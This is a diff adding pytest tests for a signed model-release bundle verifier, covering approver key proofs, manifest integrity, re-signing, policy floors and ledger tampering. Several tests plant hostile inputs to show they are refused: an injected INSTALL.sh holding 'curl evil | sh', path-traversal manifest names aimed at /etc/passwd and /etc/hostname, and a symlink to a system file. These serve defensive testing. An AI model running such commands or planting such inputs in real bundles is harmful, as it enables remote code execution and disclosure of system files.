@@ -223,7 +223,119 @@ def test_a_request_without_a_run_proves_only_its_own_entries(workspace, release_
     out = tmp_path / "no-run"
     build_release(workspace, request.id, out, actor="olga")
     proofs = json.loads((out / "ledger" / "proofs.json").read_text())
-    kinds = [json.loads(base64.b64decode(p["leaf"]))["kind"] for p in proofs]
-    assert "run.start" not in kinds and "user.added" not in kinds
+    entries = [json.loads(base64.b64decode(p["leaf"])) for p in proofs]
+    kinds = [e["kind"] for e in entries]
+    # Its own entries, and the trust of its approvers only (their keys and grants), never the whole ledger.
+    assert "run.start" not in kinds
+    assert sorted(e["payload"]["user"] for e in entries if e["kind"] == "user.added") == ["lena", "sam"]
     assert {"request.opened", "approval.decision", "release.bundle"} <= set(kinds)
     assert verify_release(out)["ok"]
+
+
+# -- issue 11: what the bundle proves, and what it never touches ------------------------------------------
+
+
+def _refix_manifest(bundle):
+    manifest = json.loads((bundle / "manifest.json").read_text())
+    manifest["files"] = {str(p.relative_to(bundle)): hashlib.sha256(p.read_bytes()).hexdigest()
+                         for p in sorted(bundle.rglob("*")) if p.is_file() and p.name != "manifest.json"}
+    (bundle / "manifest.json").write_text(json.dumps(manifest))
+
+
+def test_an_approvers_key_and_role_must_be_proven_in_the_bundle(bundle, workspace):
+    """Keys in keys/ prove nothing: without the proofs of sam's key introduction and grant, verify refuses."""
+    proofs = json.loads((bundle / "ledger" / "proofs.json").read_text())
+    kinds = {json.loads(base64.b64decode(p["leaf"]))["kind"] for p in proofs}
+    assert {"key.added", "user.added", "policy.adopted", "release.bundle"} <= kinds
+    kept = [p for p in proofs if json.loads(base64.b64decode(p["leaf"]))["kind"] not in ("key.added", "user.added")]
+    (bundle / "ledger" / "proofs.json").write_text(json.dumps(kept))
+    _refix_manifest(bundle)
+    with pytest.raises(BundleInvalid, match="approvals: the key 'sam-k1' that signed a decision is not proven"):
+        verify_release(bundle, node_key=workspace.ledger().verifier_keys()[workspace.node_key_name])
+
+
+def test_a_file_added_to_the_bundle_and_its_manifest_is_refused(bundle):
+    (bundle / "INSTALL.sh").write_text("curl evil | sh\n")
+    _refix_manifest(bundle)
+    with pytest.raises(BundleInvalid, match="INSTALL.sh: is not among the files the signed provenance binds"):
+        verify_release(bundle)
+
+
+@pytest.mark.parametrize("name", ["/etc/passwd", "../../etc/hostname", "student/../../../etc/hostname"])
+def test_manifest_names_outside_the_bundle_are_refused_and_never_hashed(bundle, name):
+    manifest = json.loads((bundle / "manifest.json").read_text())
+    manifest["files"][name] = "0" * 64
+    (bundle / "manifest.json").write_text(json.dumps(manifest))
+    outside = hashlib.sha256((bundle / name).read_bytes()).hexdigest() if (bundle / name).is_file() else None
+    with pytest.raises(BundleInvalid, match="is not a plain relative path inside the bundle") as caught:
+        verify_release(bundle)
+    assert outside is None or outside[:12] not in str(caught.value)
+
+
+def test_a_symlink_in_the_bundle_is_refused(bundle):
+    (bundle / "student" / "hostname").symlink_to("/etc/hostname")
+    with pytest.raises(BundleInvalid, match="student/hostname: is a symbolic link"):
+        verify_release(bundle)
+
+
+def test_a_bundle_re_signed_with_another_model_signing_key_is_refused(bundle, tmp_path):
+    from cryptography.hazmat.primitives import serialization
+    from cryptography.hazmat.primitives.asymmetric import ec
+    from model_signing import signing as model_signing
+
+    key = ec.generate_private_key(ec.SECP256R1())
+    pem = tmp_path / "other.pem"
+    pem.write_bytes(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
+                                      serialization.NoEncryption()))
+    (bundle / "student.sig").unlink()
+    model_signing.Config().use_elliptic_key_signer(private_key=pem).sign(bundle / "student", bundle / "student.sig")
+    (bundle / "keys" / "release-p256.pub").write_bytes(key.public_key().public_bytes(
+        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
+    _refix_manifest(bundle)
+    with pytest.raises(BundleInvalid, match="keys/release-p256.pub: is not the model-signing key the signed provenance binds"):
+        verify_release(bundle)
+
+
+def test_a_bundle_under_a_policy_below_the_floor_verifies_only_when_accepted(workspace, tmp_path):
+    """The policy was adopted (here by the bootstrap), so the release is legitimate; an auditor still sees it
+    is below the floor and must accept its digest explicitly; verify prints the rule it accepted."""
+    from tests.people import adopt_policy
+
+    path = workspace.policy_dir / "approvals.yaml"
+    path.write_text(path.read_text().replace("required_roles: [security, legal]", "required_roles: [operator]", 1)
+                    .replace("initiator_excluded: true", "initiator_excluded: false", 1))
+    adopt_policy(workspace)
+    setup_user(workspace, "olga", ["operator"], PASS, actor="admin")
+    store = workspace.artifacts
+    files = {"hf/model.safetensors": store.put_bytes(b"\x00weights" * 100)}
+    workspace.ledger().record("run.start", {"run_id": "run-1"}, actor="olga", run_id="run-1")
+    digest = workspace.policy().digest
+    subject = {"run_id": "run-1", "pipeline": "intents", "spec_digest": "s" * 64, "policy_digest": digest,
+               "teacher": {"name": "hf", "fingerprint": "t" * 64}, "data": {"source_fingerprint": "d" * 64},
+               "student": {"files": files}, "model_card": None, "plugins": [], "gates": PASSING}
+    request = open_request(workspace, kind="release", subject=subject, initiator="olga", policy_digest=digest,
+                           run_id="run-1", gates=PASSING)
+    decide(workspace, request.id, unlock(workspace, "olga", PASS), decision="approve")
+    out = tmp_path / "weak"
+    build_release(workspace, request.id, out, actor="olga")
+    run = lambda *a: subprocess.run([sys.executable, "-m", "stillroom.cli", "release", "verify", str(out), *a],
+                                    capture_output=True, text=True)
+    refused = run("--trust-bundle-key")
+    assert refused.returncode == 1 and "below the floor of two distinct people" in refused.stderr
+    assert f"--accept-policy {digest}" in refused.stderr
+    accepted = run("--trust-bundle-key", "--accept-policy", digest)
+    assert accepted.returncode == 0, accepted.stderr
+    assert "the initiator may approve their own request" in accepted.stdout
+    assert "initiator olga NOT excluded by this policy" in accepted.stdout
+
+
+def test_release_refuses_when_the_ledger_does_not_verify(workspace, release_request, tmp_path):
+    approve_both(workspace, release_request)
+    from sqlalchemy import text
+
+    with workspace.engine.begin() as c:  # a DBA rewrites one entry's bytes
+        c.execute(text("UPDATE ledger_entries SET leaf = :leaf WHERE seq = 1"), {"leaf": b'{"kind":"forged"}'})
+    out = tmp_path / "b"
+    with pytest.raises(ReleaseRefused, match="the ledger does not verify .*entry 1"):
+        build_release(workspace, release_request.id, out, actor="olga")
+    assert not out.exists() and not (tmp_path / ".b.partial").exists()
